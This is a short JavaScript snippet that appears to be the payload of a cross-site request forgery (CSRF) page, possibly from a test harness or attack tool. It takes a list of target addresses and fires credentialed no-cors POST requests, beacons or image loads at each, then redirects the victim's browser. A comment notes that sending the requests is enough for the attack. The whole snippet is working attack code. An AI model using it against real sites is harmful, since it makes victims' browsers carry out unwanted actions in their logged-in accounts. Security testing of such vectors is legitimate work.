// Requests that do not navigate and whose responses the page may not read. It is enough for the attack to send them.
const { requests, body, next } = orders;

const ways = {
  fetch: (address) => fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {}),
  beacon: (address) => navigator.sendBeacon(address, body),
  image: (address) =>
    new Promise((over) => {
      const image = new Image();
      image.onload = image.onerror = over;
      image.src = address;
    }),
};

for (const { vector, address } of requests) await ways[vector](address);
location.replace(next);
